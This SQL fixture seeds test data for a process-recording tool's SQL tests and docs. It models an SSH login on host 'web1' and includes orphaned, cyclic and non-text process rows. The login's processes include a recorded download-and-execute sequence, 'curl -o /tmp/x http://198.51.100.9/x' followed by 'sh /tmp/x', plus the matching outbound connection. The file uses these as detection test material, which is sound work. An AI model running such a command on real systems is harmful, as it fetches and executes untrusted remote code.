-- A small store that the SQL tests and the examples in docs/spyq-sql.7 run on: one login in which
-- curl fetches a file and sh runs it, a web server found at start-up, and rows that no recorder
-- would write. Times: 22 November 2026, :SS seconds past 03:00 UTC = 1795316400 + SS.

INSERT INTO hosts VALUES
    (1, 'web1', '0f5c3d2e9a8b47c6b1d0e4f3a2958671', '6c0c7f3e-55a4-4a0e-9d0a-3f1f9a0b7c21',
     1795305600000000000, '6.1.0-30-amd64', 'Debian GNU/Linux 12', 'x86_64',
     1795305610000000000, 1795316460000000000),
    (2, 'web1', NULL, NULL, NULL, NULL, NULL, NULL, 1795316460000000001, 1795316460000000001);

INSERT INTO recorders (id, host_id, pid, version, started_at)
VALUES (1, 1, 612, '0.1.0', 1795305610000000000);
INSERT INTO probes VALUES (1, 1, 'sched_process_exec', 'base', NULL, 0);

INSERT INTO processes (id, host_id, pid, parent_id, started_at, origin, comm, exe, cmdline) VALUES
    (1, 1, 1, NULL, 1795305600000000000, 'scan', 'systemd', '/usr/lib/systemd/systemd', '/sbin/init'),
    (2, 1, 700, 1, 1795305607000000000, 'scan', 'sshd', '/usr/sbin/sshd', '/usr/sbin/sshd -D'),
    (3, 1, 810, 1, 1795305608000000000, 'scan', 'nginx', '/usr/sbin/nginx', 'nginx: master process'),
    (4, 1, 811, 3, NULL, 'scan', 'nginx', '/usr/sbin/nginx', 'nginx: worker process'),
    (5, 1, 4100, 2, 1795316401000000000, 'event', 'sshd', '/usr/sbin/sshd', 'sshd: ann [priv]'),
    (6, 1, 4101, 5, 1795316402000000000, 'event', 'bash', '/usr/bin/bash', '-bash'),
    (7, 1, 4102, 6, 1795316410000000000, 'event', 'curl', '/usr/bin/curl',
     'curl -o /tmp/x http://198.51.100.9/x'),
    (8, 1, 4103, 6, 1795316420000000000, 'event', 'sh', '/usr/bin/dash', 'sh /tmp/x'),
    (9, 1, 4104, 8, 1795316421000000000, 'event', 'id', '/usr/bin/id', 'id'),
    -- Its parent is no longer in the store.
    (20, 1, 5000, 19, 1795316430000000000, 'event', 'left', '/usr/bin/left', 'left'),
    -- Each other's parents, and its own.
    (30, 1, 5030, 31, 1795316440000000000, 'event', 'egg', NULL, NULL),
    (31, 1, 5031, 30, 1795316441000000000, 'event', 'hen', NULL, NULL),
    (32, 1, 5032, 32, 1795316442000000000, 'event', 'self', NULL, NULL),
    -- Bytes that are not text, and no name at all.
    (40, 1, 5040, 1, 1795316450000000000, 'event', CAST(x'1b5b326aff00c3' AS TEXT), NULL,
     CAST(x'7275fffe6e00206375726c' AS TEXT)),
    (41, 1, 5041, 40, 1795316451000000000, 'event', NULL, NULL, NULL),
    -- On a host that the store knows nothing of.
    (50, 2, 5050, NULL, 1795316460000000001, 'event', 'far', NULL, NULL);

INSERT INTO execs (id, process_id, at, filename, exe, argv, argc) VALUES
    (1, 7, 1795316410100000000, 'curl', '/usr/bin/curl',
     '["curl","-o","/tmp/x","http://198.51.100.9/x"]', 4),
    (2, 8, 1795316420100000000, '/bin/sh', '/usr/bin/dash', '["sh","/tmp/x"]', 2),
    (3, 41, 1795316451100000000, './x', '/tmp/x',
     CAST(x'5b22fffe222c22225d' AS TEXT), 2); -- ["\xff\xfe",""]

INSERT INTO connections (id, host_id, process_id, protocol, direction, local_address, local_port,
                         remote_address, remote_port, started_at, state, origin) VALUES
    (1, 1, 5, 'tcp', 'in', '10.0.0.4', 22, '10.0.0.23', 50522, 1795316401000000000, 'open', 'event'),
    (2, 1, 7, 'tcp', 'out', '10.0.0.4', 40112, '198.51.100.9', 80, 1795316410200000000, 'closed',
     'event');

INSERT INTO listeners (id, host_id, process_id, protocol, address, port, started_at, origin)
VALUES (1, 1, 2, 'tcp', '0.0.0.0', 22, 1795305607000000000, 'scan');

-- The fork of 9 was seen twice; that of 8 has come in as another kind of edge as well.
INSERT INTO edges (id, host_id, at, last_at, count, kind, src, dst) VALUES
    (1, 1, 1795316401000000500, 1795316401000000500, 1, 'fork', 2, 5),
    (2, 1, 1795316402000000500, 1795316402000000500, 1, 'fork', 5, 6),
    (3, 1, 1795316410000000500, 1795316410000000500, 1, 'fork', 6, 7),
    (4, 1, 1795316419000000000, 1795316419000000000, 1, 'file', 7, 8),
    (5, 1, 1795316420000000500, 1795316420000000500, 1, 'fork', 6, 8),
    (6, 1, 1795316421000000900, 1795316421000000900, 1, 'fork', 8, 9),
    (7, 1, 1795316421000000500, 1795316421000000500, 1, 'fork', 8, 9);

-- What they belong to; the login has used the web server.
INSERT INTO traces (id, host_id, root_process_id, kind, title, user, remote_address, started_at,
                    last_at, process_count, connection_count, flag_count, pinned) VALUES
    (1, 1, 1, 'init', 'init', 'root', NULL, 1795305600000000000, 1795305607000000000, 1, 0, 0, 0),
    (2, 1, 2, 'service', 'service ssh.service', 'root', NULL, 1795305607000000000,
     1795316401000000500, 1, 0, 0, 0),
    (3, 1, 3, 'service', 'service nginx.service', 'root', NULL, 1795305608000000000,
     1795316410000000000, 2, 0, 0, 0),
    (4, 1, 5, 'login', 'ssh login of ann from 10.0.0.23', 'ann', '10.0.0.23', 1795316401000000000,
     1795316421000000900, 5, 2, 0, 0);
UPDATE processes SET trace_id = 1 WHERE id = 1;
UPDATE processes SET trace_id = 2 WHERE id = 2;
UPDATE processes SET trace_id = 3 WHERE id IN (3, 4);
UPDATE processes SET trace_id = 4 WHERE id BETWEEN 5 AND 9;
INSERT INTO trace_links VALUES
    (1, 1, 1, 2, 'fork', 1795305607000000000, 1795305607000000000, 1, NULL),
    (2, 1, 1, 3, 'fork', 1795305608000000000, 1795305608000000000, 1, NULL),
    (3, 1, 2, 4, 'fork', 1795316401000000500, 1795316401000000500, 1, 1),
    (4, 1, 4, 3, 'connect', 1795316405000000000, 1795316409000000000, 2, NULL);

INSERT INTO losses (id, started_at, ended_at, class, stage, count, detail) VALUES
    (1, 1795305600000000000, 1795305610000000000, 'down', 'recorder', NULL, NULL);
